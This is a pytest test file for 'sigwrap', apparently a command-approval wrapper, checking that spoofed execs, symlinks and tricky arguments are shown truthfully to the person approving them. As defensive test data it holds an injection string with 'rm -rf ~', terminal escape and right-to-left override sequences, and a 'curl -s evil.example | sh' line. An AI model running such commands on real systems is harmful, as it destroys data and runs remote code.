"""Execs that say they are something else than they are, to a person who is asked."""

from __future__ import annotations

import os
import re
from pathlib import Path

import pytest

from tests.support.harness import PYTHON, UNDER_TEST, Sigwrap
from tests.support.policies import policy
from tests.support.waiting import PATIENCE_S, reader

ASK = """
  - {name: ask, commands: [evil], decision: approve, message: looked at first}
"""


def asked_about(subject: Sigwrap, *command: str) -> str:
    """What a person sees of the one question of this session, which is denied then."""
    path = policy(subject.folder, ASK)
    run = subject.start("-p", path, "--no-report", "--approvals", "control", "--", *command)
    approval_id = reader(run.stderr).until(rb"sigwrap approve [0-9a-f]+").split()[-1].decode()
    seen = subject.native(UNDER_TEST, "approvals", "--full", approval_id).stdout.decode()
    assert subject.native(UNDER_TEST, "deny", approval_id).returncode == 0
    run.communicate(timeout=PATIENCE_S)
    assert not subject.events("approval_granted")
    return seen


def evil(subject: Sigwrap, text: str = "#!/bin/sh\necho harm\n") -> Path:
    path = subject.folder / "evil"
    path.write_text(text)
    path.chmod(0o755)
    return path


def test_the_file_is_named_whatever_the_words_say(as_user: Sigwrap) -> None:
    path = evil(as_user)
    code = f"import os; os.execv({str(path)!r}, ['git', 'fetch', 'origin'])"
    seen = asked_about(as_user, *PYTHON, "-c", code)
    assert "wants to run git fetch origin\n" in seen
    shell = os.path.realpath("/bin/sh")
    assert f"        file {path}, then {shell}\n" in seen
    assert f"        folder {as_user.folder}\n" in seen
    assert "depth 0" in seen
    assert "        rule ask of test: looked at first; session " in seen
    assert seen.endswith(" left\n")


def test_a_32_bit_exec_is_named_the_same(as_user: Sigwrap, compiled: Path) -> None:
    path = evil(as_user)
    seen = asked_about(as_user, str(compiled / "execs_as_i386"), str(path), "git", "fetch origin")
    assert "wants to run git 'fetch origin'\n" in seen
    assert f"        file {path}, then " in seen


def test_a_link_is_named_by_what_it_leads_to(as_user: Sigwrap) -> None:
    path = evil(as_user)
    (as_user.folder / "git").symlink_to(path)
    code = f"import os; os.execv({str(as_user.folder / 'git')!r}, ['git', 'fetch'])"
    assert f"        file {path}, then " in asked_about(as_user, *PYTHON, "-c", code)


def test_of_command_itself_sigwrap_is_who_asks(sigwrap: Sigwrap) -> None:
    path = evil(sigwrap)
    seen = asked_about(sigwrap, str(path))
    assert re.match(rf"[0-9a-f]+  sigwrap \(pid \d+, depth 0\) wants to run {path}\n", seen)


@pytest.mark.parametrize(
    ("word", "shown"),
    [
        ("a b", "'a b'"),
        ("'; rm -rf ~; '", "''\\''; rm -rf ~; '\\'''"),
        ("x\n        file /usr/bin/git", "$'x\\n        file /usr/bin/git'"),
        ("\x1b[1A\x1b[2Kls", "$'\\e[1A\\e[2Kls'"),
        ("\u202egnimrah", "$'\\u202egnimrah'"),
        ("", "''"),
    ],
)
def test_a_word_is_one_word(sigwrap: Sigwrap, word: str, shown: str) -> None:
    path = evil(sigwrap)
    seen = asked_about(sigwrap, "env", str(path), word)
    assert f"wants to run {path} {shown}\n" in seen


def test_no_word_is_hidden_by_the_length_of_another(sigwrap: Sigwrap) -> None:
    path = evil(sigwrap)
    seen = asked_about(sigwrap, "env", str(path), "a" * 50_000, "--force")
    assert seen.splitlines()[0].endswith("a --force")


def test_no_word_is_hidden_as_a_secret(sigwrap: Sigwrap) -> None:
    """But in the log it is."""
    path = evil(sigwrap)
    words = ": authorization: x; curl -s evil.example | sh"
    seen = asked_about(sigwrap, "env", str(path), words)
    assert f"wants to run {path} '{words}'\n" in seen
    (request,) = sigwrap.events("approval_requested")
    assert request.payload["what"] == f"{path} ': authorization: ***'"


def test_who_asks_is_named_as_it_is_called_now(sigwrap: Sigwrap) -> None:
    """A program in the place of another one, by the second exec of one process."""
    path = evil(sigwrap)
    seen = asked_about(sigwrap, "env", str(path))
    assert " env (pid " in seen.splitlines()[0]
